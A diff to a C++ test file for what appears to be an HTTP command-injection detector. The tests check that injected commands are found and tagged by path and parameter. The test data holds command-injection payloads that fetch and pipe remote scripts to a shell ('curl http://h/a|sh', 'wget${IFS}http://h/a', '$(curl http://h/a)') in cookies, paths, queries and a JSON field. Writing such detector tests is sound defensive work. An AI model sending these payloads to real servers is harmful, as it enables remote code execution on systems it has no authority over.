@@ -36,6 +36,8 @@ TEST(Injections, InHttpAreNamedByPathAndParameter) {
             (std::vector<Place>{{"/login", "Cookie", "curl http://h/a|sh"}}));
   EXPECT_EQ(unknown_in(request("GET /cgi-bin/;wget${IFS}http://h/a")), (std::vector<Place>{{"/cgi-bin/", "path", "wget${IFS}http://h/a"}}));
   EXPECT_EQ(unknown_in(request("GET /run?cd+/tmp;wget+http://h/a")), (std::vector<Place>{{"/run", "query", "cd /tmp;wget http://h/a"}}));
+  EXPECT_EQ(unknown_in(request("POST /api/v1", "", "{\"n\": 1, \"cmd\": \"$(curl http://h/a)\"}")),
+            (std::vector<Place>{{"/api/v1", "cmd", "curl http://h/a"}}));
   EXPECT_EQ(tags_of(request("GET /run?cd+/tmp;wget+http://h/a")), Ids{"http-command-injection"});
 }
 
